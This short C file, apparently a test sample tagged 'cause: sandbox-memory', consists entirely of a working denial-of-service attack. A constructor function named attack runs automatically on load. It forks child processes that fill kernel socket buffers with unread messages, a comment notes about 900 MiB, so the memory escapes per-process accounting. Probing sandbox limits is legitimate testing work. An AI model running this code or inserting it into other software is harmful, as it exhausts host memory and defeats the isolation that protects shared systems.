/* cause: sandbox-memory */
#define _GNU_SOURCE
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

/* 900 MiB of messages that nobody reads, in sockets: the kernel has them, and no process has a page more for it. */
__attribute__((constructor)) static void attack(void)
{
    static char message[32768];
    int pair[2];

    memset(message, 'm', sizeof message);
    for (int i = 0; i < 2; i++)
        if (fork() == 0) {
            while (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) == 0)
                while (send(pair[0], message, sizeof message, MSG_DONTWAIT) > 0)
                    ;
            sleep(600);
        }
    while (wait(NULL) > 0)
        ;
}
